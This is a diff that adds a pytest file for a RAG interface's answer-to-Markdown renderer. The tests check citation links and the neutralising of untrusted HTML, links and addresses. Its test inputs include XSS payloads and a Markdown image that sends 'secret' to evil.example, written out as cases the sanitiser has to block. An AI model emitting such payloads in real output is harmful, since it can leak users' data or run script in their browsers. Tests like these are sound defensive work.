@@ -1,0 +1,64 @@
+"""An answer's text becomes Markdown that can only say what it says."""
+
+from __future__ import annotations
+
+import pytest
+
+from ragkit.ui.markup import answer_markdown
+from ragkit.ui.strings import Strings
+
+EN = Strings("en")
+
+
+def shown(text: str, sources: int = 3) -> str:
+    return answer_markdown(text, "t1", sources, EN)
+
+
+def test_a_citation_becomes_a_link_to_its_card() -> None:
+    assert shown("so [2].") == 'so <a href="#src-t1-2" class="cite" title="Source 2">2</a>.'
+
+
+@pytest.mark.parametrize("text", ["[0]", "[4]", "[1a]", "[ 1]"])
+def test_what_is_no_citation_stays_text(text: str) -> None:
+    assert shown(text) == "&#91;" + text[1:]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<img src=x onerror=alert(1)>",
+        "![x](http://evil.example/?q=secret)",
+        "[click](javascript:alert(1))",
+        "[a]: http://evil.example\n\n[a]",
+        "<http://evil.example>",
+        "\\`<img src=x>\\`",
+        "`` ` `` <b>",
+        "| `a | <img src=x>` |",
+        "\\[x](http://evil.example)",
+    ],
+)
+def test_no_html_image_or_link_of_a_document_survives(text: str) -> None:
+    markdown = shown(text)
+    assert "<" not in markdown and "[" not in markdown
+
+
+def test_an_address_stays_text_and_does_not_become_a_link() -> None:
+    assert shown("see https://evil.example or www.evil.example or a@evil.example") == (
+        "see https&#58;//evil.example or www&#46;evil.example or a&#64;evil.example"
+    )
+
+
+def test_emphasis_lists_and_tables_remain() -> None:
+    text = "**bold**\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |"
+    assert shown(text) == text
+
+
+@pytest.mark.parametrize(
+    "code", ["```python\nif a < b: x[1] = `y`\n```", "`list[1] < 2`", "```\nunfinished <tag> [1]"]
+)
+def test_code_is_shown_as_it_stands(code: str) -> None:
+    assert shown(f"before\n\n{code}") == f"before\n\n{code}"
+
+
+def test_a_citation_after_code_still_counts() -> None:
+    assert shown("`a[1]` [1]").startswith('`a[1]` <a href="#src-t1-1"')
